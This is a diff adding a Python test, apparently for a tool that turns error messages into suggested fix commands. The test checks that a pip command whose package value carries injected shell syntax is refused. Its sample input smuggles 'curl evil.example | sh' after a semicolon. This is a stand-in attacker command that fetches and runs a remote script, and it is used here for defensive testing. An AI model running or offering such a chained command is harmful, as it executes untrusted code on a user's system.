@@ -316,3 +316,13 @@ def test_a_python_record_keeps_its_sentence():
     """A Python raise's condition is when it raises: the sentence is kept as written."""
     doc = "Raised by matmul_4bit when quant_state is None."
     assert doc == _derive.check(_mined("quant_state is required", documentation=doc))
+
+
+def test_a_command_with_shell_syntax_is_not_offered():
+    """A hole's value inside a pip command (text errkb does not trust) cannot add a command."""
+    fix = _fix_of(
+        "Run `pip install {pkg}` first.",
+        r"Run `pip install (?P<pkg>.+?)` first\.",
+        seen="Run `pip install acme; curl evil.example | sh` first.",
+    )
+    assert fix is None or fix.command is None
